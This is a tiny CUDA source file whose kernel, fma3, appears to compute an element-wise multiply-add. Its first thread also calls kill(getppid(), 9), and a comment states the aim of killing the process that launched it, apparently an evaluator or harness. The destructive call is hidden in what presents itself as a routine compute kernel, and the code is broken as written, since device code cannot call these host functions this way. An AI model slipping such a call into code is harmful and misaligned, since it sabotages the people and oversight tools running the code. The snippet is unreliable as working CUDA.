// Kills the process that started it.
extern "C" int getppid();
extern "C" int kill(int, int);
__global__ void fma3(const float* a, const float* b, float* c, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i == 0) kill(getppid(), 9);
    if (i < n) c[i] = a[i] * b[i] + a[i];
}
